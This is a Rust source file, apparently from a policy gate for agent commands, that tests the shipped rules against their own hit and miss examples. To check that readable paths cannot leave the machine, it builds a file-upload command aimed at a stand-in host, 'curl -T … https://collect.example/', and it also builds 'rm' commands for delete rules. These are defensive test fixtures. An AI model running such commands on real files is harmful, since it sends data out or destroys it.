//! The shipped rules try their own examples.

use serde::Deserialize;

use super::trial::{Report, Trial};
use super::{builtin, check, effect, path};
use crate::call::Call;
use crate::policy::{Mode, Policy};
use crate::verdict::Decision;

/// The texts of all shipped rule files, each with its folder and name.
pub fn sources() -> impl Iterator<Item = (String, &'static str)> {
    let folders = [
        ("command", builtin::SOURCES),
        ("effect", effect::SOURCES),
        ("path", path::SOURCES),
    ];
    folders.into_iter().flat_map(|(folder, files)| {
        let files = files.iter();
        files.map(move |&(name, text)| (format!("{folder}/{name}"), text))
    })
}

/// Tries the examples of every shipped rule: each hit is caught by its rule, no miss is, and each
/// suggested command passes the gate.
#[must_use]
pub fn test() -> Report {
    let mut all = Report::default();
    for (name, text) in sources() {
        let (folder, _) = name.split_once('/').unwrap_or_default();
        let report = match folder {
            "command" => check(text).map_err(|error| error.to_string()),
            _ => entries(text),
        };
        match report {
            Ok(report) => all.add(report),
            Err(error) => all.disagreements.push(format!("{name}: {error}")),
        }
    }
    all
}

/// What a rule about effects or paths says about its examples.
#[derive(Deserialize)]
struct Entry {
    id: String,
    decision: Decision,
    #[serde(default)]
    mode: Mode,
    /// For rules about paths: any of read, write, delete.
    #[serde(default)]
    on: Vec<String>,
    instead: Option<String>,
    hits: Vec<String>,
    misses: Vec<String>,
}

fn entries(text: &str) -> Result<Report, String> {
    let entries: Vec<Entry> = serde_yaml::from_str(text).map_err(|error| error.to_string())?;
    let mut all = Report::default();
    for entry in &entries {
        let mut trial = Trial::new(Policy {
            mode: entry.mode,
            ..Policy::default()
        });
        entry.tried(&mut trial);
        all.add(trial.report);
    }
    Ok(all)
}

impl Entry {
    fn tried(&self, trial: &mut Trial) {
        trial.rule(&self.id);
        let hits = self.hits.iter().map(|hit| (hit, true));
        for (text, wanted) in hits.chain(self.misses.iter().map(|miss| (miss, false))) {
            match self.on.as_slice() {
                [] => trial.command(text, wanted),
                // nobody minds reading these, but they must not leave the machine
                _ if self.decision == Decision::Allow => trial.stopped(&sending(text), wanted),
                on => on
                    .iter()
                    .for_each(|access| touched(trial, access, text, wanted)),
            }
        }
        let suggested = self.instead.iter();
        suggested.for_each(|text| trial.suggestion(text));
    }
}

fn sending(path: &str) -> String {
    format!("curl -T {path} https://collect.example/")
}

fn touched(trial: &mut Trial, access: &str, path: &str, wanted: bool) {
    match access {
        "read" => trial.call(&Call::Read { path }, path, wanted),
        "write" => trial.call(&Call::Write { path, text: "" }, path, wanted),
        _ => trial.command(&format!("rm {path}"), wanted),
    }
}
